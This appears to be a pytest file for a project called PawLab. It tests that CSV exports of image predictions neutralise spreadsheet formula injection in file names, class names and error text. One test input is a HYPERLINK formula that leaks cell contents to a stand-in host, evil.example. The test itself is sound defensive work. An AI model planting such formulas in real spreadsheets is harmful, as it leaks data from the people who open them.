"""CSV injection: a file or class name a visitor chose never runs as a spreadsheet formula.

OWASP's rule: a cell starting with =, +, -, @, tab or carriage return gets a
leading single quote, so a spreadsheet shows it as text. Numbers PawLab writes
itself (a negative float, a probability) are left as they are.
"""

from __future__ import annotations

import csv
import io

import pytest

from core.serving.inference import Prediction, predictions_csv

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me").jpg',
    "=2+3.jpg",
    "+2+3.png",
    "-2+3.png",
    "@SUM(A1:A9).jpg",
    "\tcat.jpg",
    "\rcat.jpg",
]


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_file_name_is_written_as_text(name):
    prediction = Prediction(file=name, label="cats", confidence=0.9, probabilities={"cats": 0.9, "dogs": 0.1}, ms=3.0)

    [row] = rows_of(predictions_csv([prediction], ["cats", "dogs"]))

    assert row["file"] == "'" + name


def test_a_hostile_class_name_is_written_as_text_in_cells_and_headers():
    classes = ["=1+1", "dogs"]
    prediction = Prediction(file="a.jpg", label="=1+1", confidence=0.8, probabilities={"=1+1": 0.8, "dogs": 0.2})

    text = predictions_csv([prediction], classes)
    [row] = rows_of(text)

    assert row["prediction"] == "'=1+1" and row["answer"] == "'=1+1"
    assert float(row["p_=1+1"]) == pytest.approx(0.8)  # the header starts with "p_": already text
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in csv.reader(io.StringIO(text)) for cell in line
    )


def test_an_error_sentence_naming_a_hostile_file_is_written_as_text():
    bad = Prediction(file="@evil.jpg", error="-1 is not an image")

    [row] = rows_of(predictions_csv([bad], ["cats"]))

    assert row["file"] == "'@evil.jpg" and row["error"] == "'-1 is not an image"


def test_numbers_pawlab_writes_are_left_as_numbers():
    prediction = Prediction(file="a.jpg", label="cats", confidence=0.5, probabilities={"cats": -0.0}, ms=-1.5)

    [row] = rows_of(predictions_csv([prediction], ["cats"]))

    assert row["ms"] == "-1.5" and row["p_cats"] == "-0.0"  # floats: not text a visitor chose


def test_ordinary_names_are_unchanged():
    prediction = Prediction(file="holiday/cat 1.jpg", label="cats", confidence=0.9, probabilities={"cats": 0.9})

    [row] = rows_of(predictions_csv([prediction], ["cats"]))

    assert row["file"] == "holiday/cat 1.jpg" and row["prediction"] == "cats"


def test_the_rule_has_one_home():
    from core.csv_cells import FORMULA_STARTS, safe_csv_cell, write_csv

    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    assert [safe_csv_cell(v) for v in ["=A1", "cat", "", "'=A1", " =A1", -2.5, 7, None]] == [
        "'=A1",
        "cat",
        "",
        "'=A1",  # already neutral: the quote is a first character like any other
        " =A1",
        -2.5,
        7,
        None,
    ]
    text = write_csv([{"name": "+cmd", "score": -1.0}], ["name", "score"])
    assert text.splitlines() == ["name,score", "'+cmd,-1.0"]
